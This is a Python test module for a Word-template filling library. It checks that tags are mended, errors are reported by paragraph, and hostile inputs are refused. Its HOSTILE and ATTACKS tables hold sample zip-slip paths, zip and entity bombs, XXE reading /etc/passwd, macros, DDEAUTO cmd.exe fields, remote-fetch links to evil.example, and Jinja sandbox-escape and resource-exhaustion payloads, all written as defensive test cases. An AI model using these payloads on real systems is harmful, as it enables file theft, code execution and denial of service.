"""Word templates: filled like text templates, values never markup; hostile files refused; nothing runs for ever."""

import datetime as dt
import io
import subprocess
import sys
import zipfile

import pytest
from lxml import etree

from docgen.documents.checkingsamples import samples, values_of
from docgen.documents.environment import fill
from docgen.documents.letters import head_of, letter_kinds
from docgen.documents.packs import load_pack
from docgen.documents.papersamples import PAPER_KINDS, sample_papers
from docgen.documents.rendering import render_template
from docgen.documents.template_worker import Guard, fill_guarded
from docgen.documents.word import print_docx
from docgen.documents.wordtemplatedraft import draft_word_template
from docgen.documents.wordtemplatefill import fill_word_template
from docgen.documents.wordtemplates import render_word_template
from docgen.documents.wordtemplatezip import open_package
from docgen.documents.wordtext import docx_text
from docgen.errors import DataError, UnreadableError
from docgen.workspace import builtin_packs
from tests.word_files import NOTE, R, W, packed, paragraph, parts, read, run, table, word

DAY = dt.date(2026, 11, 20)
NAME = "SIA \"A & B <x>\" {{ 7*7 }} {% if x %} 'q' </w:t> {_{ }_} ${x}"
VALUES = {
    "organisation": {"name": NAME, "email": ""},
    "letter": {"date": DAY},
    "signatories": [{"name": "Anna Bērziņa"}, {"name": "Jānis Ozols"}],
    "wish": "yes",
}
IEM = load_pack(builtin_packs() / "iem")


@pytest.fixture(autouse=True, scope="module")
def one_worker():
    """One worker process for the whole module: a process a test would take longer than the tests."""
    with Guard():
        yield


def filled(docx, values=VALUES):
    return fill_word_template(docx, values, name="veidne.docx", title="Vēstule", day=DAY)


def refused(docx, values=VALUES):
    with pytest.raises(DataError) as caught:
        filled(docx, values)
    return [f"{problem.path}: {problem.message}" for problem in caught.value.problems]


def test_a_value_comes_out_as_typed_whatever_its_characters():
    assert docx_text(filled(word("Nosaukums: {{ organisation.name }}."))) == f"Nosaukums: {NAME}."


def test_a_value_in_an_attribute_is_no_way_out_of_it():
    body = f'<w:p><w:r><w:rPr><w:color w:val="{{{{ organisation.name }}}}"/></w:rPr>{run("x")[5:-6]}</w:r></w:p>'
    assert "a tag stands in color" in refused(word(body))[0]


def test_a_line_end_in_a_value_is_refused_with_the_paragraph():
    problems = refused(word("Pirmā", "{{ organisation.name }}"), {**VALUES, "organisation": {"name": "a\nb"}})
    assert problems == [
        "paragraph 2: The template cannot be filled: a value with U+000A cannot be printed in one line."
    ]


def test_header_footer_footnote_and_table_are_filled():
    docx = filled(
        word(
            paragraph("Teksts", NOTE),
            table(["{%tr for one in signatories %}", ""], ["{{ one.name }}", "paraksts"], ["{%tr endfor %}", ""]),
            header="Virs: {{ organisation.name }}",
            footer="Zem: {{ letter.date | date_numeric }}",
            footnote="Vēre: {{ organisation.name }}",
        )
    )
    assert docx_text(docx) == "Teksts Anna Bērziņa paraksts Jānis Ozols paraksts"
    typed = etree.fromstring(read(docx, "word/footnotes.xml").encode()).xpath("string()")
    assert typed == f"Vēre: {NAME}"
    assert etree.fromstring(read(docx, "word/header1.xml").encode()).xpath("string()") == f"Virs: {NAME}"
    assert "20.11.2026" in read(docx, "word/footer1.xml")


def test_whole_paragraphs_come_and_go_with_a_condition():
    docx = word("{%p if organisation.email %}", "E-pasts: {{ organisation.email }}", "{%p endif %}", "Beigas")
    assert docx_text(filled(docx)) == "Beigas"
    assert read(filled(docx)).count("<w:p>") == 1
    values = {**VALUES, "organisation": {"name": "A", "email": "a@b.example"}}
    assert docx_text(filled(docx, values)) == "E-pasts: a@b.example Beigas"


@pytest.mark.parametrize(
    "runs",
    [
        ("{{ organi", "sation.na", "me }}"),
        ("{", "{ organisation.name }", "}"),
        (
            "{{ ",
            '<w:proofErr w:type="spellStart"/>',
            "organisation",
            '<w:bookmarkStart w:id="1" w:name="b"/>',
            ".name }}",
        ),
        ("{{ organisation", f"<w:hyperlink>{run('.name')}</w:hyperlink>", " }}"),
        ("{{ organisation", '<w:commentRangeStart w:id="0"/>', ".name", '<w:commentRangeEnd w:id="0"/>', " }}"),
        ("{% if wish == „yes” %}{{ organisation.name }}{% endif %}",),
        ("{% if wish == ‘yes’\u00a0%}{{\u00a0organisation.name }}{% endif %}",),
        ("{% if 1 < 2 and wish %}{{ organisation.name }}{% endif %}",),
    ],
)
def test_a_tag_that_word_split_or_corrected_is_mended(runs):
    assert docx_text(filled(word(paragraph("Nr. ", *runs, "!")))) == f"Nr. {NAME}!"


@pytest.mark.parametrize(
    ("block", "words"),
    [
        ("{{ organisation.name }", "{{ organisation.name } is not closed in its paragraph"),
        ("{{ organisation {{ wish }}", "{{ organisation is not closed in its paragraph"),
        ("organisation.name }}", "organisation.name }} ends a tag that did not begin"),
        (
            paragraph("{{ organisation", "<w:r><w:tab/></w:r>", ".name }}"),
            "has a tab, a line break, a note or a picture",
        ),
        ("{%p if wish %} jā", "would take the words beside it away"),
        ("{%tr if wish %}", "{%tr if wish %} stands outside a table: {%p … %} is for paragraphs"),
        ("{%tc endif %}", "{%tc endif %} stands outside a table: {%p … %} is for paragraphs"),
        ("{{p wish }}", "prints a whole paragraph, row, cell or run"),
        ("{%- if wish %}{% endif %}", "takes blanks away"),
        ('{% include "/etc/passwd" %}', "is not for Word templates; there are if, elif, else"),
        ("{% macro m() %}{{ m() }}{% endmacro %}", "is not for Word templates"),
        ("{{ nope }}", "'nope' is undefined"),
        ("{{ organisation.nope }}", "has no attribute 'nope'"),
        ("{{ wish | nope }}", "No filter named 'nope'"),
        ("{% if wish %}", "Unexpected end of template"),
        ("{{ wish wish }}", "expected token 'end of print statement'"),
    ],
)
def test_what_is_wrong_with_a_tag_is_named_with_its_paragraph(block, words):
    problems = refused(word("Pirmā rindkopa", table(["a", "b"]), block))
    assert any(words in one for one in problems), problems
    assert all(one.startswith("paragraph 4: ") for one in problems), problems


@pytest.mark.parametrize(
    ("left", "words"),
    [
        (f'<w:ins w:id="1" w:author="A. B.">{run("jauns")}</w:ins>', "tracked changes"),
        ('<w:del w:id="1" w:author="A. B."><w:r><w:delText>vecs</w:delText></w:r></w:del>', "tracked changes"),
        ('<w:r><w:rPr><w:rPrChange w:id="1" w:author="A. B."/></w:rPr><w:t>x</w:t></w:r>', "tracked changes"),
        ('<w:r><w:commentReference w:id="0"/></w:r>', "has a comment"),
    ],
)
def test_what_an_author_left_undecided_does_not_go_into_every_letter(left, words):
    problems = refused(word("Pirmā", paragraph("{{ organisation.name", left, left, " }} un"), "Trešā"))
    assert len(problems) == 1, problems
    assert problems[0].startswith(f"paragraph 2: has {words.removeprefix('has ')}"), problems


def test_a_problem_in_a_header_names_the_header_and_all_problems_come_at_once():
    problems = refused(word("{{ a }", "{{ b }", header="{{ c }", footnote="{% d %}"))
    assert [one.split(": ")[0] for one in problems] == [
        "paragraph 1",
        "paragraph 2",
        "footnotes, paragraph 1",
        "header1, paragraph 1",
    ]


def test_a_paragraph_is_still_counted_right_after_rows_and_paragraphs_that_tags_take_the_place_of():
    rows = table(["{%tr for one in signatories %}", ""], ["{{ one.name }}", ""], ["{%tr endfor %}", ""])
    assert refused(word("{%p if wish %}", rows, "{%p endif %}", "{{ nope }}"))[0].startswith("paragraph 9: ")


def test_what_loops_leave_empty_is_made_whole():
    docx = filled(
        word(
            table(["{%tr for one in nobody %}", ""], ["{{ one }}", ""], ["{%tr endfor %}", ""]),
            table(["{%p if not wish %}", "b"]).replace(
                "%}</w:t></w:r></w:p>", "%}</w:t></w:r></w:p>" + paragraph("{%p endif %}")
            ),
        ),
        {**VALUES, "nobody": []},
    )
    root = etree.fromstring(read(docx).encode())
    assert len(root.findall(f".//{{{W[9:-1]}}}tbl")) == 1
    assert all(cell.find(f"{{{W[9:-1]}}}p") is not None for cell in root.iter(f"{{{W[9:-1]}}}tc"))


@pytest.mark.parametrize(("wish", "widths"), [("yes", ["2000", "6000"]), ("no", ["8000"])])
def test_columns_that_a_condition_takes_away_leave_the_table_as_wide_as_it_was(wish, widths):
    row = ["A", '{%tc if wish == "yes" %}', "B", "{%tc endif %}"]
    columns = table(row)
    for width in (1000, 2000, 3000, 2000):
        columns = columns.replace('w:w="4000"', f'w:w="{width}"', 1)
        columns = columns.replace("<w:tc><w:p>", f'<w:tc><w:tcPr><w:tcW w:w="{width}" w:type="dxa"/></w:tcPr><w:p>', 1)
    made = etree.fromstring(read(filled(word(columns), {**VALUES, "wish": wish})).encode())
    names = {"w": W.split('"')[1]}
    assert made.xpath("//w:gridCol/@w:w", namespaces=names) == widths
    assert made.xpath("//w:tcW/@w:w", namespaces=names) == widths


def test_tags_across_a_table_s_end_make_no_document_and_are_told():
    docx = word(table(["a", "{% if not wish %}b"]), "{% endif %}c")
    assert "makes no valid document" in refused(docx)[0]


def test_the_same_template_and_values_give_the_same_bytes_with_properties_from_the_data(tmp_path):
    docx = word("{{ organisation.name }}")
    (tmp_path / "a.docx").write_bytes(docx)
    made = render_word_template(tmp_path / "a.docx", VALUES, title="Vēstule & cita", day=DAY)
    assert made == fill_word_template(docx, VALUES, name="b", title="Vēstule & cita", day=DAY)
    core = read(made, "docProps/core.xml")
    assert "Veidnes autors" not in core
    assert "<dc:title>Vēstule &amp; cita</dc:title>" in core
    assert core.count("2026-11-20T00:00:00Z") == 2
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        assert archive.namelist()[0] == "[Content_Types].xml"
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_a_template_that_is_not_there_says_so(tmp_path):
    with pytest.raises(UnreadableError, match="does not exist"):
        render_word_template(tmp_path / "a.docx", VALUES, title="", day=DAY)


# -- hostile files ----------------------------------------------------------------------------------------------------


def relation(type_, target, *, external=True):
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="x" Type="{R}/{type_}" Target="{target}"{mode}/>'


def with_entry(name, content=b"x", **attributes):
    stream = io.BytesIO(word("a"))
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as target:
        entry = zipfile.ZipInfo(name)
        entry.compress_type = zipfile.ZIP_DEFLATED
        for key, value in attributes.items():
            setattr(entry, key, value)
        target.writestr(entry, content)
    return stream.getvalue()


def field(*code):
    codes = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in code)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{codes}</w:p>'


def field_text(text, name="instrText"):
    return f"<w:r><w:{name}>{text}</w:{name}></w:r>"


def code(*parts):
    """Return a whole field in a paragraph's runs: what stands before its separator, and a result."""
    signs = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    begin, separate, end = signs
    inner = f"{begin}{''.join(parts)}{separate}{run('1')}{end}".replace("<w:p>", "").replace("</w:p>", "")
    return f"<w:p>{inner}</w:p>"


def drawing(inner):
    names = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    return f"<w:p><w:r><w:pict><v:shape {names}><{inner}/></v:shape></w:pict></w:r></w:p>"


def document(body="<w:p/>", before=""):
    return {"document": f"{before}<w:document {W}><w:body>{body}</w:body></w:document>"}


HOSTILE = {
    "no ZIP": (b"%PDF-1.7", "is no Word file"),
    "a ZIP of something else": (packed({"a.txt": "b"}), "is no Word file"),
    "cut off": (word("a")[:-30], "is no Word file"),
    "path upwards": (with_entry("../../etc/passwd"), "is no name for a file"),
    "absolute path": (with_entry("/etc/passwd"), "is no name for a file"),
    "drive": (with_entry("C:/windows/x"), "is no name for a file"),
    "backslash": (with_entry("word\\..\\x"), "is no name for a file"),
    "symbolic link": (with_entry("word/link", b"/etc/passwd", external_attr=0o120777 << 16), "is no plain file"),
    "twice": (with_entry("WORD/Document.xml"), "is there twice"),
    "bomb": (with_entry("word/media/a.bmp", b"\0" * 15_000_000), "a ZIP bomb"),
    "large": (with_entry("word/x.xml", b"<a>" + bytes(range(32, 60)) * 200_000 + b"</a>"), "bytes unpacked"),
    "many": (packed({**parts("a"), **{f"word/{n}.txt": "x" for n in range(600)}}), "files inside"),
    "DOCTYPE": (word(**document(before='<!DOCTYPE a [<!ENTITY e "x">]>')), "DOCTYPE"),
    "entity bomb": (
        word(
            **document(f"<w:p>{run('X')}</w:p>".replace("X", "&b;"), '<!DOCTYPE a [<!ENTITY b "' + "y" * 9000 + '">]>')
        ),
        "no XML that docgen reads",
    ),
    "external entity": (
        word(**document("<w:p>&e;</w:p>", '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>')),
        "no XML that docgen reads",
    ),
    "UTF-16 DOCTYPE": (
        packed(
            {**parts("a"), "word/x.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")}
        ),
        "DOCTYPE",
    ),
    "many paragraphs": (word(*(paragraph(str(number * 7919)) for number in range(20_000))), "more than 50000 elements"),
    "deep": (word(**document("<w:p>" * 200 + "</w:p>" * 200)), "levels"),
    "not well-formed": (word(**document("<w:p>")), "no XML that docgen reads"),
    "macros by type": (
        word("a", types='<Override PartName="/word/v.bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        "macros",
    ),
    "macros by name": (with_entry("word/vbaProject.bin"), "macros"),
    "macros by relation": (
        word("a", relations=relation("vbaProject", "v.bin", external=False)),
        "macros",
    ),
    "macro-enabled": (
        packed(
            {
                name: content.replace(
                    "openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main"
                )
                for name, content in parts("a").items()
            }
        ),
        "macros",
    ),
    "external image": (word("a", relations=relation("image", "https://evil.example/a.png")), "something fetched from"),
    "file link": (word("a", relations=relation("hyperlink", "file:///c:/x")), "something fetched from"),
    "attached template": (word("a", relations=relation("attachedTemplate", "https://evil.example/n.dotm")), "template"),
    "altChunk": (word("a", '<w:altChunk r:id="x"/>'), "altChunk"),
    "altChunk relation": (word("a", relations=relation("aFChunk", "x.html", external=False)), "altChunk"),
    "embedded object": (word("<w:p><w:r><w:object/></w:r></w:p>"), "embedded object"),
    "embedded package": (word("a", relations=relation("package", "e.xlsx", external=False)), "embedded object"),
    "ActiveX": (word("a", relations=relation("control", "a.xml", external=False)), "ActiveX"),
    "subdocument": (word('<w:subDoc r:id="x"/>'), "subdocument"),
    "part outside": (word("a", relations=relation("image", "../../x.png", external=False)), "a part outside the file"),
    "field that includes": (word(field(" INCLUDETEXT ", '"c:\\\\x"')), "a field INCLUDETEXT"),
    "field in pieces": (word(field(" INCLUDE", 'PICTURE "http://e.example/x"')), "a field INCLUDEPICTURE"),
    "field in words": (
        word(code(field_text("INCLU"), run('DEPICTURE "http://e.example/x"'))),
        "a field INCLUDEPICTURE",
    ),
    "value in a field": (
        word(code(field_text("HYPERLINK "), run("{{ wish }}"))),
        "words or tags within a field's code",
    ),
    "field of deleted words": (word(code(field_text('INCLUDETEXT "c:\\x"', "delInstrText"))), "a field INCLUDETEXT"),
    "field that makes a code": (word(code(code(field_text("QUOTE 68 68 69")), field_text(" x y"))), "a field QUOTE"),
    "field that makes a part of one": (
        word(code(field_text("INC"), code(field_text("QUOTE LUDE")), field_text("TEXT"))),
        "a field QUOTE",
    ),
    "field that opens a file": (word(field('HYPERLINK "file:///c:/x.exe"')), "something fetched from file:"),
    "field that opens a share": (word(field("HYPERLINK ", '"\\\\\\\\evil\\\\x"')), "something fetched from"),
    "drawing that fetches": (
        word(drawing('v:imagedata src="http://evil.example/a.png"')),
        "something fetched from http:",
    ),
    "drawing that fetches by another name": (
        word(drawing('v:imagedata o:href="file:////evil/a"')),
        "something fetched",
    ),
    "drawing filled from a share": (word(drawing('v:fill src="\\\\evil\\a.png"')), "something fetched from"),
    "link to a script": (
        word("a", relations=relation("hyperlink", "javascript:x")),
        "something fetched from javascript",
    ),
    "part outside, written in percents": (
        word("a", relations=relation("image", "%2e%2e/%2e%2e/x.png", external=False)),
        "a part outside the file",
    ),
    "part of another machine": (
        word("a", relations=relation("image", "//evil/x.png", external=False)),
        "outside the file",
    ),
    "outside, with a blank": (
        word("a", relations=relation("image", "evil/x.png").replace('"External"', '" External"')),
        "something fetched from",
    ),
    "DDE": (word('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:p>'), "a field DDEAUTO"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused_with_its_reason(case):
    docx, words = HOSTILE[case]
    problems = refused(docx)
    assert any(words in problem for problem in problems), problems


def test_all_reasons_are_given_at_once():
    docx = word("a", '<w:altChunk r:id="x"/>', relations=relation("image", "https://evil.example/a.png"))
    assert len(refused(docx)) == 2


def test_a_link_that_a_reader_may_click_is_no_reason_to_refuse():
    open_package(word("a", relations=relation("hyperlink", "https://www.iem.gov.lv/")), name="a")


def test_fields_that_only_count_or_lead_where_a_reader_may_click_are_no_reason_to_refuse():
    page = code(field_text(" PAGE "))
    link = code(field_text(' HYPERLINK "https://a.example/" '))
    inner = code(field_text(" HYPERLINK \\l a "))
    nested = code(field_text(" IF "), code(field_text("PAGE")), field_text(' = 1 "a" "b" '))
    assert open_package(word("a", page, link, inner, nested, drawing('v:textpath string="a"')), name="a")


def test_a_tag_in_a_part_that_is_not_filled_in_is_told():
    docx = packed({**parts("a"), "word/comments.xml": f"<w:comments {W}>{paragraph('{{ wish }}')}</w:comments>"})
    assert refused(docx) == ["word/comments.xml: has a tag, and is not filled in"]


# -- limits -----------------------------------------------------------------------------------------------------------

NESTED = "{% for a in range(1000) %}" * 4 + "{% endfor %}" * 4
ATTACKS = {
    "long range": "{% for i in range(1000000000) %}x{% endfor %}",
    "power": "{% for i in range(10**9) %}x{% endfor %}",
    "nested loops": NESTED,
    "multiplied text": '{{ "a" * 1000000000 }}',
    "multiplied list": "{% for a in [1] * 1000000000 %}{% endfor %}",
    "formatted": '{{ "%900000000d" % 1 }}',
    "format method": "{{ ''.format.__globals__ }}",
    "format field": "{{ '{0.__class__.__mro__}'.format(wish) }}",
    "classes": "{{ wish.__class__.__mro__ }}",
    "classes by key": '{{ wish["__class__"]["__mro__"] }}',
    "classes by filter": '{{ wish | attr("__class__") }}',
    "cycler": "{{ cycler.__init__.__globals__ }}",
    "loop": "{% for a in signatories %}{{ loop.__init__.__globals__ }}{% endfor %}",
    "self": "{{ self.__init__.__globals__ }}",
    "file": '{% include "/etc/passwd" %}',
    "import": '{% import "os" as os %}',
    "doubled text": "{% set a = 'aaaaaaaaaaaaaaaa' %}" + "{% set a = a ~ a %}" * 40,
    "padded text": "{{ wish.ljust(2000000000) }}",
    "centred text": "{{ wish.center(2000000000) | length }}",
    "replaced text": "{% set a = 'a' * 1 %}",
    "replaced more": "{% set b = 'aaaaaaaaaaaaaaaa' | replace('a', 'aaaaaaaaaaaaaaaa') %}"
    + "{% set b = b | replace('a', b) %}" * 5
    + "{{ b | length }}",
    "joined": "{% set b = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' %}" + "{% set b = b | join(b) %}" * 6 + "{{ b | length }}",
    "lipsum": "{{ lipsum(n=1000) }}",
    "other alphabet": "{{ wish.encode('cp037') }}",
    "late import": "{{ wish.encode('rot13') }}",
}
SLOW = {"nested loops"}


@pytest.mark.parametrize("case", ATTACKS)
def test_a_text_template_that_attacks_ends_as_a_problem(case):
    with pytest.raises(DataError) as error:
        fill_guarded(ATTACKS[case], VALUES, name="veidne.md")
    assert error.value.problems


@pytest.mark.parametrize("case", ATTACKS)
def test_a_word_template_that_attacks_ends_as_a_problem(case, tmp_path):
    path = tmp_path / "veidne.docx"
    path.write_bytes(word(ATTACKS[case]))
    with pytest.raises(DataError) as error:
        render_word_template(path, VALUES, title="", day=DAY)
    assert error.value.problems


def test_a_macro_that_calls_itself_ends_as_a_problem():
    with pytest.raises(DataError, match="more time, memory or room"):
        fill_guarded("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", VALUES, name="veidne.md")


@pytest.mark.parametrize("case", ["nested loops", "doubled text", "classes"])
def test_a_plain_process_stops_attacks_where_none_can_be_locked_down(case):
    with Guard(sandbox=False) as guard, pytest.raises(DataError) as error:
        guard.fill(ATTACKS[case], VALUES, name="veidne.md")
    assert error.value.problems


@pytest.mark.parametrize("sandbox", [True, False])
def test_a_worker_fills_as_this_process_does(sandbox):
    source = (
        "{% for one in signatories %}{{ one.name }}{% endfor %} {{ letter.date | date_of }} {{ organisation.name }}"
    )
    docx = word("{{ organisation.name }} {{ letter.date | date_of }}", header="{{ wish }}")
    with Guard(sandbox=sandbox) as guard:
        assert guard.fill(source, VALUES, name="a") == fill(source, VALUES, name="a")
        assert guard.fill_word(docx, VALUES, name="a", title="T", day=DAY) == filled_as("T", docx)
        for wrong in ("{{ nope }}", "{% if %}", "{{ wish | nope }}", "a\n{{ organisation }}"):
            with pytest.raises(DataError) as there:
                guard.fill(wrong, VALUES, name="a")
            with pytest.raises(DataError) as here:
                fill(wrong, VALUES, name="a")
            assert there.value.problems == here.value.problems


def filled_as(title, docx):
    return fill_word_template(docx, VALUES, name="a", title=title, day=DAY)


def test_the_way_of_templates_imports_nothing_that_only_linux_has():
    code = (
        "import sys\n"
        "names = ('resource', 'fcntl', 'termios', 'pwd', 'grp', 'docgen._lockdown.lock', 'docgen._lockdown.forking')\n"
        "sys.modules.update(dict.fromkeys(names))\n"
        "import docgen.documents.wordtemplates, docgen.documents.checking, docgen.documents.wordtemplatefill\n"
        "import docgen.cli.template\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


# -- Word templates made from text templates --------------------------------------------------------------------------


@pytest.mark.parametrize("kind", letter_kinds(IEM))
def test_a_word_template_made_from_a_text_template_gives_the_same_words(kind):
    head, look, source = head_of(kind, IEM), IEM.memorandum.look, IEM.template(kind)
    made = draft_word_template(source, name=kind, title=head.title["lv"], day=DAY, look=look)
    for data in samples(head.fields):
        values = values_of(head.fields, data, IEM)
        text = docx_text(print_docx(render_template(source, values, date=DAY, look=look)))
        assert docx_text(filled(made, values)) == text


@pytest.mark.parametrize("kind", PAPER_KINDS)
def test_a_word_template_made_from_a_paper_s_text_template_gives_the_same_words(kind):
    made = draft_word_template(IEM.template(kind), name=kind, title=kind, day=DAY, look=IEM.memorandum.look)
    for paper in sample_papers(kind, IEM):
        assert docx_text(filled(made, paper.all_values)) == docx_text(print_docx(paper.document))


def test_lists_and_tables_of_a_text_template_become_word_templates_too():
    source = (
        "::: table 2 7\nA | B\n{% for one in signatories %}\n{{ one.name }} | x\n{% endfor %}\n:::\n\n"
        "{% for one in signatories %}\n- {{ one.name }}\n{% endfor %}\n\n::: clauses\n1. Nemainīgs\n:::\n"
    )
    made = draft_word_template(source, name="a", title="a", day=DAY, look=IEM.memorandum.look)
    text = docx_text(print_docx(render_template(source, VALUES, date=DAY)))
    assert docx_text(filled(made)) == text


def test_the_line_below_a_letterhead_stays_when_its_last_line_is_not_given():
    made = draft_word_template(IEM.template("accession"), name="a", title="a", day=DAY, look=IEM.memorandum.look)
    values = values_of(head_of("accession", IEM).fields, list(samples(head_of("accession", IEM).fields))[1], IEM)
    assert values["organisation"]["phone"] == ""
    assert "<w:pBdr>" in read(filled(made, values))
